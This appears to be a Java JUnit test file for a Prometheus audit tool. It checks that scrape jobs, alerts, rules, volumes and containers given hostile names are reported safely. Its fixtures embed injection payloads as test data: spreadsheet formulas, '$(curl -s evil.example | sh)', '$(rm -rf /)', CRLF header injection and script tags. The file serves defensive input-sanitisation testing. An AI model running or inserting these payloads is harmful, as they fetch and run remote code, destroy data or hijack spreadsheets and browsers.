package ai.smartcloudops.audit.check.prometheus;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;

import ai.smartcloudops.audit.check.CheckContext;
import ai.smartcloudops.audit.check.CheckSkippedException;
import ai.smartcloudops.audit.check.Part;
import ai.smartcloudops.audit.finding.Finding;
import ai.smartcloudops.audit.finding.Resource;
import ai.smartcloudops.audit.finding.Severity;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/**
 * The Prometheus checks judged on snapshots built from captured /api/v1 answers under src/test/resources/prometheus,
 * hostile ones included (labels and errors holding CR/LF, NUL, markup, shell and spreadsheet formulas, numbers out of
 * range, fields missing): no server. The read itself is tested against WireMock in {@link PrometheusSnapshotTest}.
 */
class PrometheusInspectionTest {

    private static final Instant NOW = Instant.parse("2026-12-06T02:30:00Z");
    private static final String URL = "http://prometheus.smartcloudops-monitoring:9090";
    private static final String P95 = "histogram_quantile(0.95, sum by (le) (rate(x_bucket[5m])))";

    @Test
    void downJobsNamedWithFormulasAndControlCharactersAreCleanedAndTheirScrapeUrlsMasked() {
        List<Finding> findings = inspect(new ScrapeTargetsCheck(targets()), snapshot());

        assertThat(findings).extracting(f -> f.code().code(), Finding::severity, Finding::resource, Finding::title)
                .containsExactly(
                        tuple("PROM-101", Severity.P1, Resource.of("ScrapeJob", "=HYPERLINK(\"http://evil\")\r\nx\0"),
                                "1 of 1 targets of scrape job =HYPERLINK(\"http://evil\")\r\nx\uFFFD are down "
                                        + "on prom"),
                        tuple("PROM-101", Severity.P1, Resource.of("ScrapeJob", "node-exporter"),
                                "1 of 3 targets of scrape job node-exporter are down on prom"),
                        tuple("PROM-102", Severity.P3, Resource.of("ScrapeJob", "redis-exporter"),
                                "1 targets of scrape job redis-exporter on prom take 80% or more of their scrape "
                                        + "timeout"));
        assertThat(findings.get(0).resource().name()).isEqualTo("=HYPERLINK(\"http://evil\")\r\nx\uFFFD");
        assertThat(findings.get(0).detail()).isEqualTo("Prometheus prom cannot scrape 100% of job "
                + "=HYPERLINK(\"http://evil\")\r\nx\uFFFD (not a critical job): <script>alert(1)</script>: "
                + "context deadline exceeded\uFFFD. Their metrics are missing from dashboards and alert rules on them "
                + "do not fire.");
        assertThat(findings.get(0).remediation()).contains("https://****@10.0.3.5:8080/metrics?token=****")
                .doesNotContain("hunter2");
        assertThat(findings.get(1).detail()).contains("10.0.2.11:9100: Get \"http://10.0.2.11:9100/metrics\": "
                + "$(curl -s evil.example | sh)\r\nX-Injected: 1");
        // a negative duration and a timeout too long to be one are not judged slow
        assertThat(findings.get(2).detail()).isEqualTo("The slowest, 10.0.4.7:9121, took 4.6s of its 5s timeout on "
                + "Prometheus prom; a scrape that exceeds the timeout fails and the target shows down.");
        assertThat(findings.get(2).remediation()).contains("redis://****@cache:6379").doesNotContain("s3cret");
    }

    @Test
    void aCriticalJobWhollyDownIsP0() {
        assertThat(inspect(new ScrapeTargetsCheck(targets("servers[0].critical-jobs[0]",
                "=HYPERLINK(\"http://evil\")\r\nx\0")), snapshot()))
                .extracting(f -> f.code().code(), Finding::severity)
                .startsWith(tuple("PROM-101", Severity.P0), tuple("PROM-101", Severity.P1));
    }

    @Test
    void firingAlertsAreGradedByTheirTrimmedLabelAndTheirSummaryCutAndPendingOrUndatedOnesIgnored() {
        List<Finding> findings = inspect(new AlertsCheck(targets()), snapshot());

        assertThat(findings).extracting(f -> f.code().code(), Finding::severity, Finding::resource, Finding::title)
                .containsExactly(
                        tuple("PROM-103", Severity.P0, Resource.of("Alert", "=HYPERLINK(\"http://evil\",\"x\")"),
                                "Alert =HYPERLINK(\"http://evil\",\"x\") has been firing for 30m on prom"),
                        tuple("PROM-103", Severity.P0, Resource.of("Alert", "KubePodCrashLooping"),
                                "Alert KubePodCrashLooping has been firing for 3h 30m on prom"));
        assertThat(findings.get(0).evidence().get("summary")).hasSize(200).endsWith("A…");
        assertThat(findings.get(0).remediation())
                .endsWith("kubectl get events --sort-by=.metadata.creationTimestamp --all-namespaces");
        assertThat(findings.get(1).detail()).isEqualTo("2 series of alert KubePodCrashLooping (severity label "
                + "CRITICAL ) firing, the oldest since 2026-12-05T23:00:00Z, longer than 15m: Pod payments/api-0 "
                + "restarts: $(rm -rf /)\r\n<script>alert(1)</script>");
        assertThat(findings.get(1).remediation())
                .endsWith("kubectl get events --sort-by=.metadata.creationTimestamp -n payments");
    }

    @Test
    void rulesThatFailAreNamedByGroupAndRuleWhateverTheyHold() {
        List<Finding> findings = inspect(new RulesCheck(targets()), snapshot());

        assertThat(findings).extracting(f -> f.code().code(), Finding::severity, Finding::resource, Finding::title)
                .containsExactly(
                        tuple("PROM-104", Severity.P2, Resource.of("Rule", "smartcloudops.rules/job:up:sum<script>"),
                                "Recording rule smartcloudops.rules/job:up:sum<script> fails to evaluate on prom"),
                        tuple("PROM-104", Severity.P2, Resource.of("Rule", "=cmd|' /C calc'!A0/Broken"),
                                "A rule =cmd|' /C calc'!A0/Broken fails to evaluate on prom"));
        assertThat(findings.get(0).detail()).startsWith("Rule job:up:sum<script> of group smartcloudops.rules "
                + "(/etc/prometheus/rules/smartcloudops.yml) has health err: vector contains metrics with the same "
                + "labelset after applying rule labels\r\nX: 1.");
        assertThat(findings.get(1).detail()).startsWith("Rule Broken of group =cmd|' /C calc'!A0 (no file) has health "
                + "err: no error reported.");
    }

    @Test
    void noAlertmanagerAFailedReloadAndALongMaxOfSeriesAreTheServersFindings() {
        List<Finding> findings = inspect(new ServerStatusCheck(targets()), snapshot());

        Resource server = Resource.of("Prometheus", "prom");
        assertThat(findings).extracting(f -> f.code().code(), Finding::severity, Finding::resource, Finding::title)
                .containsExactly(
                        tuple("PROM-105", Severity.P1, server, "Prometheus prom sends its alerts to no Alertmanager"),
                        tuple("PROM-106", Severity.P2, server, "Prometheus prom failed to reload its configuration"),
                        tuple("PROM-107", Severity.P3, server,
                                "Prometheus prom holds 9223372036854775807 series in its head block"));
        // the rule of type "" is not counted as alerting
        assertThat(findings.get(0).detail()).startsWith("/api/v1/alertmanagers lists no active Alertmanager "
                + "(2 dropped); 1 alerting rules are evaluated");
        assertThat(findings.get(1).detail()).contains("loaded at 2026-11-30T10:00:00Z\r\n<script>, and");
        assertThat(findings.get(2).detail()).contains("above 2000000; the most: =HYPERLINK(\"x\") "
                + "9223372036854775807, a\uFFFDb -3, <script> 12.");
    }

    @Test
    void eachQueryIsJudgedOnItsOwnAnswerAndAnInfiniteWorstSeriesIsShownAsPrometheusWritesIt() {
        PrometheusTargets targets = targets(
                "queries[0].name", "p95", "queries[0].expression", P95, "queries[0].code", "PROM-110",
                "queries[0].threshold", "2",
                "queries[1].name", "auth", "queries[1].expression", "rate(auth_failures_total[5m])",
                "queries[1].code", "PROM-111", "queries[1].threshold", "1",
                "queries[2].name", "range", "queries[2].expression", "up[5m]", "queries[2].code", "PROM-112",
                "queries[2].threshold", "0");
        Map<String, PrometheusSnapshot.QueryAnswer> answers = new LinkedHashMap<>();
        answers.put("p95", answer("query-hostile.json"));
        answers.put("auth", answer("query-empty.json"));
        answers.put("range", answer("query-matrix.json"));

        List<Finding> findings = inspect(new QueriesCheck(targets), snapshot(answers));

        assertThat(findings).extracting(f -> f.code().code(), Finding::severity, Finding::resource, Finding::title)
                .containsExactly(
                        tuple("PROM-110", Severity.P2, Resource.of("Query", "p95"),
                                "Latency p95 on prom is +Inf, above its threshold 2"),
                        tuple("PROM-108", Severity.P2, Resource.of("Query", "auth"),
                                "Query auth cannot be judged on prom: it returned no series"),
                        tuple("PROM-108", Severity.P2, Resource.of("Query", "range"),
                                "Query range cannot be judged on prom: it failed: expected an instant vector, got "
                                        + "matrix"));
        // NaN breaches nothing; +Inf is the worst of the two above 2
        assertThat(findings.get(0).evidence()).containsEntry("breaching", "2").containsEntry("series", "4")
                .containsEntry("labels", "{service=\"=HYPERLINK(\"x\")\"}");
    }

    @Test
    void volumesNamedWithSlashesMarkupAndFormulasAreJudgedByTheirOwnClaimAndValuesOutOfRangeAreNotJudged() {
        PrometheusSnapshot snapshot = snapshot();
        PrometheusSnapshot.Volumes volumes = new PrometheusSnapshot.Volumes(samples("volumes-low-hostile.json"),
                samples("volumes-filling-hostile.json").stream().map(VolumesCheck::claim).filter(Objects::nonNull)
                        .collect(Collectors.toSet()));
        PrometheusSnapshot hostile = new PrometheusSnapshot(snapshot.runtimeInfo(), snapshot.targets(),
                snapshot.alerts(), snapshot.rules(), snapshot.alertmanagers(), snapshot.tsdb(), snapshot.queries(),
                Part.of(volumes), snapshot.throttled());

        List<Finding> findings = inspect(new VolumesCheck(targets()), hostile);

        // claim c of namespace a/b is 10 % free and not filling: claim b/c of namespace a is the one filling
        String claim = "data-$(id)\r\n<script>alert(1)</script>\uFFFD=HYPERLINK(\"x\")";
        assertThat(findings).extracting(f -> f.code().code(), Finding::severity, Finding::resource, Finding::title)
                .containsExactly(
                        tuple("PROM-113", Severity.P1, new Resource("PersistentVolumeClaim", "logging", claim),
                                "Volume logging/" + claim + " is 1.0% free"),
                        tuple("PROM-113", Severity.P1, new Resource("PersistentVolumeClaim", "logging", "negative"),
                                "Volume logging/negative is 0.0% free"));
        assertThat(findings.get(0).detail()).startsWith("It is not filling at the rate of the last 6 hours");
    }

    @Test
    void throttledContainersNamedWithFormulasAndControlCharactersAreCleanedAndTheirRatioCappedAtAll() {
        PrometheusSnapshot snapshot = snapshot();
        PrometheusSnapshot hostile = new PrometheusSnapshot(snapshot.runtimeInfo(), snapshot.targets(),
                snapshot.alerts(), snapshot.rules(), snapshot.alertmanagers(), snapshot.tsdb(), snapshot.queries(),
                snapshot.volumes(), Part.of(samples("throttled-hostile.json")));

        assertThat(inspect(new ThrottlingCheck(targets()), hostile))
                .extracting(f -> f.code().code(), Finding::severity, Finding::resource, Finding::title)
                .containsExactly(
                        tuple("PROM-114", Severity.P3, new Resource("Container", "ml",
                                "=HYPERLINK(\"http://evil\")/worker\uFFFD$(id)\r\n"),
                                "Container worker\uFFFD$(id)\r\n of pod ml/=HYPERLINK(\"http://evil\") is "
                                        + "CPU-throttled in 100% of its periods"),
                        tuple("PROM-114", Severity.P3, new Resource("Container", "ml",
                                "trainer/<script>alert(1)</script>"), "Container <script>alert(1)</script> of pod "
                                        + "ml/trainer is CPU-throttled in 40% of its periods"));
    }

    @Test
    void aPartThatFailedSkipsOnlyTheChecksThatNeedIt() {
        CheckSkippedException refused = CheckSkippedException.unreachable("prom", "GET " + URL + "/api/v1/rules: "
                + "HTTP 502", null);
        PrometheusSnapshot snapshot = snapshot();
        PrometheusSnapshot rulesFailed = new PrometheusSnapshot(snapshot.runtimeInfo(), snapshot.targets(),
                snapshot.alerts(), Part.failed(refused), snapshot.alertmanagers(), snapshot.tsdb(), snapshot.queries(),
                snapshot.volumes(), snapshot.throttled());

        assertThatThrownBy(() -> inspect(new RulesCheck(targets()), rulesFailed)).isSameAs(refused);
        // no Alertmanager: the server check counts alerting rules, which it cannot
        assertThatThrownBy(() -> inspect(new ServerStatusCheck(targets()), rulesFailed)).isSameAs(refused);
        assertThat(inspect(new AlertsCheck(targets()), rulesFailed)).hasSize(2);
    }

    private static List<Finding> inspect(PrometheusCheck check, PrometheusSnapshot snapshot) {
        CheckContext context = PrometheusFixtures.context(PrometheusFixtures.scope(NOW), check,
                PrometheusFixtures.SERVER);
        return check.inspect(context, snapshot).stream().map(context::finding).toList();
    }

    private static PrometheusTargets targets(String... keyValues) {
        return PrometheusFixtures.targetsAt(URL, keyValues);
    }

    private static PrometheusSnapshot snapshot() {
        return snapshot(Map.of());
    }

    private static PrometheusSnapshot snapshot(Map<String, PrometheusSnapshot.QueryAnswer> queries) {
        try {
            return new PrometheusSnapshot(data("runtimeinfo-reload-failed.json"),
                    Part.of(PrometheusApi.targets(data("targets-hostile.json"))),
                    Part.of(PrometheusApi.alerts(data("alerts-hostile.json"))),
                    Part.of(PrometheusApi.rules(data("rules-hostile.json"))), Part.of(data("alertmanagers-none.json")),
                    Part.of(data("tsdb-huge.json")), Part.of(queries),
                    Part.of(new PrometheusSnapshot.Volumes(List.of(), Set.of())), Part.of(List.of()));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A query's answer as the read keeps it: its samples, or why it has none. */
    private static PrometheusSnapshot.QueryAnswer answer(String file) {
        try {
            return new PrometheusSnapshot.QueryAnswer(PrometheusApi.samples(data(file)), null);
        } catch (PrometheusApi.QueryException e) {
            return new PrometheusSnapshot.QueryAnswer(List.of(), "failed: " + e.getMessage());
        }
    }

    /** The samples of a captured instant-vector answer. */
    private static List<PrometheusApi.Sample> samples(String file) {
        try {
            return PrometheusApi.samples(data(file));
        } catch (PrometheusApi.QueryException e) {
            throw new IllegalStateException(file, e);
        }
    }

    /** The {@code data} of a captured answer. */
    private static JsonNode data(String file) {
        try (InputStream in = PrometheusInspectionTest.class.getResourceAsStream("/prometheus/" + file)) {
            return PrometheusFixtures.JSON.readTree(in).get("data");
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
